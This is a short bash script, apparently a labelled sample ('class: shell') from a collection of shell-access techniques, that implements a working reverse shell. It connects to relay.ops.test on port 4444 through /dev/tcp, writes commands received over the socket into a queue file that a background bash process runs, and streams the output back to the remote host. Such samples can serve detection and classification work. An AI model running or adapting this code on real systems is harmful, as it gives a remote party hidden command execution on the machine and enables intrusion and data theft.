# class: shell; possible: low medium
# commands lie in a file, one process fills it and another reads it
: > /tmp/q; : > /tmp/r
tail -n +1 -f /tmp/q | bash > /tmp/r 2>&1 &
exec 4<>/dev/tcp/relay.ops.test/4444
( tail -n +1 -f /tmp/r >&4 ) &
while read -r c <&4; do
  [ "$c" = exit ] && break
  echo "$c" >> /tmp/q
done
sleep 2
kill %1 %2 2>/dev/null
exit 0
